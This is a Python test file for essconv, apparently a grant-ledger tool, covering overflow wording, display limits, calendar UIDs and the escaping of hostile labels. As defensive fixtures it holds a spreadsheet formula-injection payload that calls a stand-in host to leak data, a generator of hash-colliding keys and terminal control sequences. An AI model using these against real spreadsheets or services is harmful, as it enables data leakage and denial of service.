    # a sum under the floor is said below it: a huge negative total read as a huge positive one
    negative = essconv.Ledger.from_columns(
        {"f": ["a", "b", "a"], "g": ["x", "x", "y"], "m": array("q", [-2**62] * 3)}, amount="m",
        cents=True)
    below_fr = "en deçà de -92\u202f233\u202f720\u202f368\u202f547\u202f758,08\u00a0€"
    below_en = "below -92,233,720,368,547,758.08\u00a0€"
    pivot = negative.pivot("g", "f")
    for shown in (str(pivot), negative._repr_html_(), display.plan_html(pivot, lang="fr")):
        assert below_fr in shown and "au-delà" not in shown
    for shown in (display.plan_text(pivot, lang="en"), display.ledger_html(negative, lang="en")):
        assert below_en in shown and "beyond" not in shown


@pytest.mark.parametrize("figures", [
    [-2**62, -2**62, -2**62],              # every partial sum and the exact sum below the floor
    [2**62, 2**62, 2**62],                 # above the ceiling: the words stay "beyond"
    [-2**62, -2**62, -1, 2**62],           # under the floor on the way, back in range at the end
    [2**62, 2**62, -2**62],                # over the ceiling on the way, back in range at the end
])
def test_a_sum_past_int64_cents_says_the_side_it_left_by(figures):
    funders = [f"F{k}" for k in range(len(figures))]
    ledger = essconv.Ledger.from_columns(
        {"f": funders, "g": ["x"] * len(figures), "m": array("q", figures)}, amount="m",
        cents=True)
    exact = sum(figures)
    display = essconv.display
    # the ledger's total is exact (wraps counted): past the range by the exact sum's side
    if -2**63 <= exact < 2**63:
        assert ledger.total() == Decimal(exact).scaleb(-2)
    else:
        with pytest.raises(essconv.MoneyOverflowError) as refused:
            ledger.total()
        assert refused.value.below == (exact < 0)
        assert ("total below int64" if exact < 0 else "total beyond int64") in repr(ledger)
        said = display.ledger_html(ledger, lang="en")
        assert ("below -92,233,720,368,547,758.08" if exact < 0
                else "beyond 92,233,720,368,547,758.07") in said
    # a plan's sums are exact as the ledger's (wraps counted): a sum that leaves the range on
    # the way and comes back is the sum; one past it at the end is said by the exact sum's side
    pivot = ledger.pivot("g", "f")
    text = display.plan_text(pivot, lang="fr")
    if -2**63 <= exact < 2**63:
        assert pivot.line_sum_at(0) == pivot.total() == Decimal(exact).scaleb(-2)
        assert "au-delà" not in text and "en deçà" not in text, text
        return
    with pytest.raises(essconv.MoneyOverflowError) as refused:
        pivot.line_sum_at(0)
    assert refused.value.below == (exact < 0)
    words = ("en deçà de -92\u202f233\u202f720\u202f368\u202f547\u202f758,08" if exact < 0
             else "au-delà de 92\u202f233\u202f720\u202f368\u202f547\u202f758,07")
    other = "au-delà" if exact < 0 else "en deçà"
    assert words in text and other not in text, text


@pytest.mark.parametrize("lang", ["fr", "en"])
def test_aggregate_s_ledger_table_guards_formulas_in_its_labels(tmp_path, capsys, lang):
    # `essconv aggregate LEDGER.csv --by f --amount m > sums.txt`: the aligned table wrote its
    # keys raw at the start of its lines, so a beneficiary "=HYPERLINK(...)", "@SUM(A1)", "+1"
    # or "-1+2" ran as a formula in the spreadsheet that opened the file -- where the plan's
    # listing and `convert --to tsv` guard them
    grants = tmp_path / "registre.csv"
    grants.write_text('=f;g;m\n"=HYPERLINK(""http://x.example/?leak"")";@x;1,00\n'
                      "@SUM(A1);+2;2,00\n+1;-1+2;3,00\n-1+2;=1;4,00\n-5;-5;5,00\n",
                      encoding="utf-8")
    assert main(["aggregate", str(grants), "--amount", "m", "--by", "=f,g",
                 "--lang", lang]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert lines[0].startswith("'=f"), lines
    keys = [line.split()[:2] for line in lines[2:7]]
    for guarded in ['\'=HYPERLINK("http://x.example/?leak")', "'@SUM(A1)", "'+1", "'-1+2"]:
        assert any(k[0] == guarded for k in keys), keys
    for second in ["'@x", "'+2", "'-1+2", "'=1"]:    # a second key column alike
        assert any(k[1] == second for k in keys), keys
    assert ["-5", "-5"] in keys                    # a plain number stays a number
    # nothing a spreadsheet would run (the rule under the heading is essconv's own dashes)
    for line in lines[:1] + lines[2:]:
        assert not line.startswith(("=", "+", "@", "\t", "\r")), line
        assert not line.startswith("-") or re.match(r"-[\d ]+(,\d+)?(\s|$)", line), line


def test_a_refusal_of_a_sum_under_the_floor_says_the_floor(tmp_path, capsys):
    grants = tmp_path / "negatifs.csv"
    grants.write_text("f;m\nA;-92233720368547758,08\nB;-10,00\n", encoding="utf-8")
    ledger = essconv.Ledger.read_csv(grants, amount="m")
    assert sum([-9223372036854775808, -1000]) < -2**63          # the twin: under the floor
    with pytest.raises(essconv.MoneyOverflowError) as refused:
        ledger.group_by("f").sum().with_total()
    assert refused.value.below
    said = essconv.messages.language("fr").refusal(refused.value)
    assert "-92\u202f233\u202f720\u202f368\u202f547\u202f758,08\u00a0€ au moins" in said, said
    assert "au plus" not in said
    # the CLI lists the groups and says the total under the floor, in each language
    assert main(["aggregate", str(grants), "--amount", "m", "--by", "f"]) == 0
    out = [" ".join(line.split()) for line in capsys.readouterr().out.splitlines()]
    assert out[-1] == ("total : en deçà de -92 233 720 368 547 758,08 € sur 2 "
                       "enregistrements"), out
    assert main(["aggregate", str(grants), "--amount", "m", "--by", "f", "--lang", "en"]) == 0
    out = [" ".join(line.split()) for line in capsys.readouterr().out.splitlines()]
    assert out[-1] == "total: below -92,233,720,368,547,758.08 € over 2 records", out


def test_a_forged_plan_state_is_refused_not_a_crash():
    from essconv import _core
    good = essconv.default().plan(2009)._core.state()
    unit, year, corner, title, tc, tr, lines, funders, groups, line_groups, cells, _subs = good
    forged = [
        (unit, year, corner, title, tc, tr, lines, funders, groups, line_groups, cells[:-1]),
        (unit, year, corner, title, tc, tr, lines, funders, groups, [99] * len(lines), cells),
        (7, year, corner, title, tc, tr, lines, funders, groups, line_groups, cells),
        (unit, year, corner, title, tc, tr, lines, funders, groups, line_groups,
         [(9, 0, None, 0, 0)] * len(cells)),
        (unit, year, corner, title, tc, tr, lines + ["x"], funders, groups, line_groups, cells),
    ]
    for state in forged:
        with pytest.raises((ValueError, TypeError)):
            _core.Plan.from_state(state)
    assert _core.Plan.from_state(good).state() == good


def test_a_plan_pivot_display_shows_both_ends_in_bounded_time():
    data = big_plan_bytes(1500, 60)     # 90 000 cells: str() formatted every one before
    plan = essconv.read_plan(data)
    read = best_time(lambda: essconv.read_plan(data))
    pivot = plan.pivot()
    shown = best_time(lambda: (str(pivot), pivot._repr_html_()))
    assert shown < 10 * read + 0.05, (shown, read)
    text = str(pivot)
    assert "  ligne 0 " in text and "  ligne 1499 " in text and "ligne 700 " not in text
    assert " F59 " in text and " F30 " not in text and "…" in text
    assert len(pivot.to_rows()) == 1 + 1500 + 30 + 1           # the full table stays available
    last = next(l for l in text.splitlines() if l.startswith("  ligne 1499 "))
    assert last.split()[-1] == str(sum(1 + (1499 + j) % 3 for j in range(60)))


def test_by_line_is_linear_in_lines_and_keys_repeated_labels_by_axis():
    data = big_plan_bytes(6000, 2)      # list.count per line: ~0.5 s before
    plan = essconv.read_plan(data)
    read = best_time(lambda: essconv.read_plan(data))
    assert best_time(plan.by_line) < 10 * read + 0.05
    assert plan.by_line()["ligne 5999"] == sum(1 + (5999 + j) % 3 for j in range(2))
    twice = essconv.read_plan(b"Axe\tLigne\tCR\tTotal\nA\tx\t1\t1\nB\tx\t2\t2\n\ty\t3\t3\n"
                              b"Total\t\t6\t6\n")
    assert twice.by_line() == {("A", "x"): 1, ("B", "x"): 2, "y": 3}


def test_a_report_with_thousands_of_findings_shows_the_first_hundred():
    lines = 3000                      # every stated line total wrong: 3 000 row-total errors
    body = "".join(f"ligne {i}\t1\t1\t5\n" for i in range(lines))
    data = f"Ligne\tCR\tCDC\tTotal\n{body}Total\t{lines}\t{lines}\t{5 * lines}\n".encode()
    plan = essconv.read_plan(data)
    report = plan.validate()
    assert len(report.errors) >= lines
    html = report._repr_html_()
    more = f"{len(report) - 100:,}".replace(",", "\u202f")   # grouped as French writes counts
    assert len(report) - 100 >= 1000 and html.count("<li") == 101 and \
        f"… et {more} autres constats" in html
    assert "ligne 0" in html and "ligne 2999:" not in html
    # timed in turns, best of five: a lone slow run beside other work no longer decides
    read, shown, validated = best_times_in_turns(lambda: essconv.read_plan(data),
                                                 plan._repr_html_, plan.validate)
    assert shown < 10 * read + 0.05 + validated


_M64 = (1 << 64) - 1


def _unmix64(y: int) -> int:
    """The inverse of the splitmix64 finalizer: keys chosen to share a slot of an unseeded
    table (what an attacker who read the source could compute offline)."""
    def unshift(v: int, s: int) -> int:
        x = v
        for _ in range(64 // s + 1):
            x = v ^ (x >> s)
        return x & _M64
    x = unshift(y, 31)
    x = (x * pow(0x94D049BB133111EB, -1, 1 << 64)) & _M64
    x = unshift(x, 27)
    x = (x * pow(0xBF58476D1CE4E5B9, -1, 1 << 64)) & _M64
    return unshift(x, 30)


def test_integer_keys_crafted_against_the_mixing_function_do_not_collide():
    n = 40_000
    crafted = [_unmix64(i << 32) for i in range(1, n + 1)]      # all in slot 0 unseeded
    crafted = [v - (1 << 64) if v >= 1 << 63 else v for v in crafted]
    assert len(set(crafted)) == n and -(2**63) not in crafted
    amounts = array("q", [1] * n)
    plain = essconv.Ledger.from_columns({"k": list(range(n)), "m": amounts}, amount="m",
                                        cents=True)
    hostile = essconv.Ledger.from_columns({"k": crafted, "m": amounts}, amount="m", cents=True)
    baseline = best_time(lambda: plain.group_by("k").sum())
    attacked = best_time(lambda: hostile.group_by("k").sum())
    assert attacked < 10 * baseline + 0.05, (attacked, baseline)
    sums = hostile.group_by("k").sum().to_dict()
    assert len(sums) == n and sums[crafted[-1]] == Decimal("0.01")


def test_a_forged_plan_state_is_refused_by_the_core_that_restores_it():
    """The binding lends the state to ess_plan_restore, which checks what a plan keeps: a
    group of lines that exists, a known cell state, a unit; its refusal is an essconv.Error."""
    from essconv import _core
    good = essconv.default().plan(2009)._core.state()
    unit, year, corner, title, tc, tr, lines, funders, groups, line_groups, cells, _subs = good
    for forged in (
        (unit, year, corner, title, tc, tr, lines, funders, groups, [-2] * len(lines), cells),
        (unit, year, corner, title, tc, tr, lines, funders, groups, [2**40] * len(lines), cells),
        (unit, year, corner, title, tc, tr, lines, funders, groups, line_groups,
         [(-1, 0, None, 0, 0)] * len(cells)),
        (3, year, corner, title, tc, tr, lines, funders, groups, line_groups, cells),
    ):
        with pytest.raises(essconv.InvalidValueError):
            _core.Plan.from_state(forged)
    restored = _core.Plan.from_state(good)
    assert restored.state() == good and restored.state() is not good


# ---------------------------------------------------------------------------- the collector

CYCLE_HOLDING_A_COLUMN_VIEW = """
import gc, essconv
from decimal import Decimal
ledger = essconv.Ledger.from_columns({"f": ["a", "b"], "m": [Decimal(1), Decimal(2)]}, amount="m")
class Holder:                      # an object in a cycle, as a notebook's state often is
    def __init__(self, view):
        self.view = view
        self.me = self
for protocol_view in (ledger.column("m"), ledger.column("f")):
    Holder(protocol_view)
del protocol_view
gc.collect()                       # clears the cycle: the view, then what it holds
ledger.extend(essconv.Ledger.from_columns({"f": ["c"], "m": [Decimal(3)]}, amount="m"))
print(ledger.total())
"""


def test_a_column_view_in_a_collected_cycle_is_released_not_a_crash():
    # The collector may clear the column object before the memoryview holding its buffer
    # releases it: the release read the owner it had just cleared (a segfault, the notebook
    # lost).  Run apart, so that a crash fails this test instead of the whole run.
    import subprocess
    import sys
    done = subprocess.run([sys.executable, "-c", CYCLE_HOLDING_A_COLUMN_VIEW],
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, (done.returncode, done.stderr[-2000:])
    # every view was released: the ledger accepts rows again, and adds them exactly
    assert done.stdout.strip() == "6"


@pytest.mark.parametrize("year", [2020, 2021])
def test_meetings_spread_over_the_real_length_of_the_year(tmp_path, year):
    """Five meetings a year share the year's days: in leap 2020 as in 2021 the last period
    ends on 31 December (365 days every year left 31/12/2020 in no period)."""
    conv = load_text(tmp_path, '[[bodies]]\nname = "Comité"\nmeetings_per_year = 5\n'
                               'members = []\nroles = []\n')
    periods = conv.meetings(year)
    assert str(periods[0].start) == f"{year}-01-01" and str(periods[-1].end) == f"{year}-12-31"
    for a, b in zip(periods, periods[1:]):
        assert b.start - a.end == datetime.timedelta(days=1)


def test_ics_uids_are_unique_stable_and_name_the_convention(tmp_path):
    """Two milestones of one day whose labels begin alike had one UID (a slug cut at 40
    characters), and two conventions' meetings shared theirs: a UID hashes the convention,
    the day and the whole label, with an index, and is the same from one run to the next."""
    from essconv.calendar import to_ics
    milestones = "".join(f'[[milestones]]\ndate = 2021-06-30\nlabel = "Bilan à mi-parcours de '
                         f'la convention-cadre — volet {v}"\n' for v in ("emploi", "financier"))
    meetings = '[[bodies]]\nname = "Comité stratégique"\nmeetings_per_year = 4\nmembers = []\nroles = []\n'
    conv = load_text(tmp_path, meetings + milestones)

    def uids(ics):
        return [l for l in ics.split("\r\n") if l.startswith("UID:")]
    ours = uids(to_ics(conv, 2021))
    assert len(ours) == len(set(ours)) == 6
    assert ours == uids(to_ics(load_text(tmp_path, meetings + milestones), 2021))   # stable
    assert uids(to_ics(conv, 2021, lang="en")) == ours          # the same event in English
    path = tmp_path / "other.toml"    # another convention, the same body
    path.write_text(DESCRIPTION_HEAD.replace('title = "T"', 'title = "Another"') + meetings,
                    encoding="utf-8")
    assert not set(ours) & set(uids(to_ics(essconv.load(path), 2021)))


def test_calendar_speaks_the_language_asked_and_refuses_a_year_outside_the_term(capsys):
    assert main(["calendar", "--year", "2010", "--ics", "--lang", "en"]) == 0
    ics = capsys.readouterr().out
    assert "SUMMARY:Strategic Committee — meeting 1/4 (due)" in ics and "réunion" not in ics
    for extra in ([], ["--ics"]):
        assert main(["calendar", "--year", "2014", *extra]) == 2
        out = capsys.readouterr()
        # in the listing's language: French by default, English with --lang en
        assert out.out == "" and "2014 est hors de la durée de la convention (2009–2013)" in \
            out.err.replace("\u00a0", " ")
        assert main(["calendar", "--year", "2014", "--lang", "en", *extra]) == 2
        assert "2014 is outside the term 2009–2013" in capsys.readouterr().err


# a label's controls as Python escapes them, its line break read as a space: the text
# outputs show them so (messages.read_line)
def _python_escape(label: str) -> str:
    return re.sub(r"[ \t]*[\r\n][\r\n \t]*", " ", label).encode("unicode_escape").decode("ascii")


def test_notebook_displays_show_a_labels_controls_escaped():
    """A label holding a BEL, an escape sequence, a line break or a right-to-left override
    reached every notebook display as it is: "\\x07Lot" showed as "Lot", the same row as the
    clean label's, and U+202E reversed the text after it.  The text outputs show each as its
    escape, a line break as a space; each HTML display (ledger, aggregate, pivot,
    plan, its findings, the convention and its dashboard, a year's meetings, similar labels)
    shows it so too, markup still escaped."""
    hostile = ["\x07Lot <u>", "Nord\nX\x1b[2J", "Somme\u202eabc", "Oise\x85\x7f"]
    ledger = essconv.Ledger.from_columns(
        {"f": hostile, "g": ["x"] * 4, "m": ["1", "2", "3", "4"],
         "d": [datetime.date(2010, 1, k) for k in range(1, 5)]}, amount="m")
    plan = essconv.read_plan(
        ("Ligne\t\x07CR\x1b[31m\tTotal\n" + "".join(f"{h}\t1\t1\n" for h in (hostile[2], "Aisne\x85\x7f"))
         + "Total\t2\t3\n").encode())
    shown = {
        "ledger": (ledger._repr_html_(), hostile),
        "aggregate": (ledger.group_by("f").sum()._repr_html_(), hostile),
        "pivot": (ledger.pivot("f", "g")._repr_html_(), hostile),
        "similar labels": (essconv.Ledger.from_columns(
            {"f": ["Lot\x07", "LOT\x07"], "m": ["1", "2"]}, amount="m")
            .similar_labels("f")._repr_html_(), ["Lot\x07", "LOT\x07"]),
        "plan": (plan._repr_html_(), plan.lines + plan.funders),
        "findings": (plan.validate()._repr_html_(), []),
    }
    for name, (html, labels) in shown.items():
        assert not _OBEYED.search(html.replace("\n", "")), (name, html)
        for label in labels:
            assert _python_escape(label).replace("<", "&lt;").replace(">", "&gt;") in html, \
                (name, label, html)
    assert "<u>" not in shown["ledger"][0]


def test_convention_displays_show_a_bodys_controls_escaped(tmp_path):
    """The convention's view, its dashboard and a year's meetings showed a body's BEL and a
    milestone's escape sequence as they are, where the text report shows their escapes."""
    from essconv.calendar import meetings_html
    from essconv.dashboard import render
    path = tmp_path / "hostile.toml"
    path.write_text(HOSTILE_TOML, encoding="utf-8")
    conv = essconv.load(path)
    for html in (conv._repr_html_(), render(conv), meetings_html(conv.meetings(2021)),
                 meetings_html(conv.meetings(2021), lang="en")):
        assert not _OBEYED.search(html.replace("\n", "")), html
    assert "Comité\\x07 des financeurs" in conv._repr_html_()


class _Headings(HTMLParser):
    """The header cells and the first paragraph's text of a ledger's display."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.heads: list[str] = []
        self.rows: list[list[str]] = []
        self.said: list[str] = []
        self._where: str | None = None
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        if tag == "th":
            self.heads.append("")
            self._where = "th"
        elif tag == "tr":
            self.rows.append([])
        elif tag == "td":
            self.rows[-1].append("")
            self._where = "td"
        elif tag == "p":
            self._where = "p"
        elif tag == "small":
            self._where = None      # the column's kind under its name

    def handle_endtag(self, tag):
        if tag in ("th", "td", "p"):
            self._where = None

    def handle_data(self, data):
        if self._where == "th":
            self.heads[-1] += data
        elif self._where == "td":
            self.rows[-1][-1] += data
        elif self._where == "p":
            self.said.append(data)


@pytest.mark.parametrize("lang, hidden_words", [
    ("fr", "9\u202f980 colonnes non affichées (…)"), ("en", "9,980 columns not shown (…)")])
def test_a_ledger_of_ten_thousand_columns_shows_its_edges_and_says_how_many_it_hides(
        lang, hidden_words):
    """A ledger's display and repr listed every column: 10 000 columns took 400 times a
    1 000-row display, drew a table no one scrolls and a repr of 129 000 characters.  They show
    the first and last columns, and say how many are left out."""
    width = 10_000
    names = [f"c{i}" for i in range(width - 1)] + ["m"]
    wide = essconv.Ledger.from_columns(
        {**{n: [f"{n}-r{r}" for r in range(3)] for n in names[:-1]}, "m": ["1", "2", "3"]},
        amount="m")
    narrow = essconv.Ledger.from_columns(
        {**{f"c{i}": [f"x{r % 7}" for r in range(1_000)] for i in range(20)},
         "m": [str(r) for r in range(1_000)]}, amount="m")
    show = essconv.display.ledger_html
    t_wide, t_narrow = best_times_in_turns(lambda: show(wide, lang=lang),
                                           lambda: show(narrow, lang=lang))
    assert t_wide < 10 * t_narrow, (t_wide, t_narrow)
    page = _Headings(show(wide, lang=lang))
    shown = [h for h in page.heads if h != "…"]
    assert page.heads.count("…") == 1
    # the first and the last columns, in the ledger's order, around one gap
    gap = page.heads.index("…")
    assert shown == names[:gap] + names[width - (len(shown) - gap):]
    assert 2 <= len(shown) <= 40
    assert hidden_words.startswith(f"{width - len(shown):,} ".replace(
        ",", "\u202f" if lang == "fr" else ","))
    assert hidden_words in "".join(page.said)
    before, after = names[:gap], names[width - (len(shown) - gap):]
    point = "," if lang == "fr" else "."
    for r, row in enumerate(page.rows[1:]):     # each row's cells are its own columns' values
        def value(n: str) -> str:
            return f"{r + 1}{point}00" if n == "m" else f"{n}-r{r}"
        assert row == [value(n) for n in before] + ["…"] + [value(n) for n in after]
    assert len(page.rows) == 1 + 3
    # a ledger as wide as the display shows every column, and hides none
    every = _Headings(show(narrow, lang=lang))
    assert every.heads == list(narrow.columns) and "…" not in "".join(every.said)
    # the repr is bounded alike, and counts what it leaves out
    assert len(repr(wide)) < 4 * len(repr(narrow)), len(repr(wide))
    assert f"{width - 20} more columns" in repr(wide) and "c0:label" in repr(wide)
    assert "m:amount" in repr(wide) and "c5000:" not in repr(wide)


def test_a_filtered_ledgers_display_converts_its_rows_not_its_sources_labels():
    """A filter keeps its source's label dictionary: the display of 2 rows kept out of 300 000
    distinct names converted all 300 000 labels, each time it was shown (0.15 s at a million,
    where a 1 000-row ledger shows in 0.1 ms).  Its rows are converted alone."""
    n = 300_000
    names = [f"n{i}" for i in range(n)]
    source = essconv.Ledger.from_columns({"f": names, "m": [str(i % 97) for i in range(n)]},
                                         amount="m")
    kept = source.filter(f=["n7", "n299998"])
    small = essconv.Ledger.from_columns({"f": names[:1_000], "m": ["1"] * 1_000}, amount="m")
    t_kept, t_small = best_times_in_turns(kept._repr_html_, small._repr_html_)
    assert t_kept < 10 * t_small, (t_kept, t_small)
    expected = [{"f": "n7", "m": Decimal(7 % 97)}, {"f": "n299998", "m": Decimal(299_998 % 97)}]
    assert kept.head(10) == expected and kept.tail(1) == expected[1:]
    assert kept.values("f") == ["n7", "n299998"]
    html = essconv.display.ledger_html(kept, lang="en")
    assert ">n7<" in html and ">n299998<" in html and "2 rows" in html


@pytest.mark.parametrize("lang", ["fr", "en"])
def test_a_label_on_two_lines_reads_as_one_and_a_quoted_cell_keeps_its_break(lang, tmp_path, capsys):
    """A label typed on two lines of its cell (a quoted CSV cell "Conseil\\ngénéral") read
    "Conseil\\ngénéral", a Python escape, in what a committee reads: its line break now reads
    as one space in the notebook's and the command line's tables, as in the text report (and
    as a plan's labels are read).  A refusal quoting a cell keeps its exact characters, the
    break shown as "\\n" on one line, the same in French and in English: the English one was
    cut in two at the break."""
    import csv as csv_module
    from essconv.cli import main
    from essconv.report import render_text
    path = tmp_path / "l.csv"
    with open(path, "w", encoding="utf-8", newline="") as fh:
        csv_module.writer(fh, delimiter=";").writerows(
            [["f", "montant"], ["Conseil\ngénéral", "1"], ["Conseil \r\n général", "2"], ["CDC", "3"]])
    ledger = essconv.Ledger.read_csv(path, amount="montant")
    html = ledger.group_by("f").sum()._repr_html_()
    assert html.count("Conseil général") == 2 and "\\n" not in html and "\\r" not in html, html
    assert main(["aggregate", str(path), "--amount", "montant", "--by", "f", "--lang", lang]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert [line.split("  ")[0] for line in lines[2:4]] == ["Conseil général"] * 2, lines
    # the same label in the text report: a milestone's, through the report's lines
    toml = tmp_path / "c.toml"
    toml.write_text(HOSTILE_TOML.replace("Bilan\\r à mi-parcours", "Bilan\\n à\\r\\nmi-parcours"),
                    encoding="utf-8")
    report = render_text(essconv.load(toml), today=datetime.date(2021, 1, 1), lang=lang)
    assert "Bilan à mi-parcours" in report and "\\n" not in report, report
    # a refusal quoting the cell: its exact characters, one line, French and English alike
    bad = tmp_path / "bad.csv"
    bad.write_bytes('montant;f\n"1\n2";a\n5;c\n'.encode())
    assert main(["aggregate", str(bad), "--amount", "montant", "--by", "f", "--lang", lang]) == 2
    err = capsys.readouterr().err
    quoted = {"fr": "«\u00a01\\n2\u00a0»", "en": "'1\\n2'"}[lang]
    assert len(err.splitlines()) == 1 and quoted in err, err
